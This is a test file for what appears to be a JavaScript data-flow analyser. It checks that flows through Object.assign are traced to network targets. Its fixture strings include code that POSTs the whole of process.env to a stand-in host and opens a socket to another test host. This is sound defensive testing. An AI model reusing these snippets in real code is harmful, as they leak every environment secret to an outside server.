import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

describe('what Object.assign puts into this', () => {
  test('is where a connection goes, whoever makes the object', () => {
    const code = `const net = require('net');
      class Outlet { constructor({ host = '127.0.0.1', port = 514 } = {}) { Object.assign(this, { host, port, socket: null }); }
        open(text) { net.connect(this.port, this.host).write(text); } }
      class Console extends Outlet { constructor() { super({ host: 'console.weir.test', port: 443 }); } }
      exports.open = (text) => new Console().open(text);`;

    const targets = analyzeJs(code).flow.flows.flatMap((flow) => flow.targets.map(({ text }) => text));
    expect(targets).toContain('console.weir.test');
  });

  test('carries its data', () => {
    const code = `class Report { constructor() { Object.assign(this, { all: process.env }); this.all ??= {}; }
        send() { fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(this.all) }); } }
      new Report().send();`;

    expect(analyzeJs(code).flow.flows.some(({ labels }) => (labels & LABEL.envAll) !== 0)).toBe(true);
  });

  test('and what it puts into another object, too', () => {
    const code = `const found = {}; Object.assign(found, process.env);
      fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(found) });`;

    expect(analyzeJs(code).flow.flows.some(({ labels }) => (labels & LABEL.envAll) !== 0)).toBe(true);
  });
});
